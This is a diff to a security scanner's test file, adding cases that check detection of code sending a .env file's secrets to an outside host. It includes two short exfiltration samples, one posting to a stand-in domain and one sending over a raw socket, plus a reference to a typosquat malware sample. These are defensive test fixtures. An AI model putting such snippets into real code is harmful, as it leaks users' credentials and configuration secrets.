@@ -725,3 +725,52 @@ def test_a_builtin_replaced_by_a_function_that_sends_is_a_threat(
 )
 def test_a_builtin_replaced_by_one_that_sends_nothing_is_not_a_threat(source: str) -> None:
     assert "CPL-THR-025" not in danger(source)
+
+
+# -- recall17: a .env file's values sent ----------------------------------------------------
+
+#: blind16's b16-ts-dotenv-wrapper (Socket, 2025): a python-dotenv typosquat re-exports it
+#: and wraps load_dotenv so that the parsed values are posted (clean on main: a .env
+#: file's values were no source).
+DOTENV_SENT = [
+    (
+        Path(__file__).resolve().parents[2]
+        / "benchmarks/malware/tune/b16-ts-dotenv-wrapper/dotenvv/__init__.py"
+    ).read_text(encoding="utf-8"),
+    "import dotenv, requests\n"
+    "def load(path='.env'):\n"
+    "    values = dotenv.dotenv_values(path)\n"
+    "    requests.post('https://cfg.recall17.example/', json=values)\n"
+    "    return values\n",
+    "from dotenv.main import dotenv_values\nimport socket\n"
+    "s = socket.create_connection(('203.0.113.5', 443))\n"
+    "s.sendall(str(dict(dotenv_values())).encode())\n",
+]
+
+
+@pytest.mark.parametrize("source", DOTENV_SENT)
+def test_a_dotenv_files_values_sent_are_harvesting(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-006" in danger(source)
+    assert "CPL-THR-006" in danger(source, mode=ScanMode.PLUGIN)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-006")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a wrapper that loads, logs the names it set and returns (no value leaves)
+        "from dotenv import dotenv_values, load_dotenv as _ld\nimport logging\n"
+        "def load_dotenv(*a, **k):\n"
+        "    r = _ld(*a, **k)\n"
+        "    logging.info('loaded %s', sorted(dotenv_values(*a[:1])))\n"
+        "    return r\n",
+        # one value of the file used as the token of the API it belongs to
+        "from dotenv import dotenv_values\nimport requests\n"
+        "config = dotenv_values('.env')\n"
+        "requests.get(config['API_URL'], headers={'Authorization': config['API_TOKEN']})\n",
+    ],
+)
+def test_a_dotenv_wrapper_that_sends_no_values_is_clean(source: str) -> None:
+    assert "CPL-THR-006" not in danger(source)
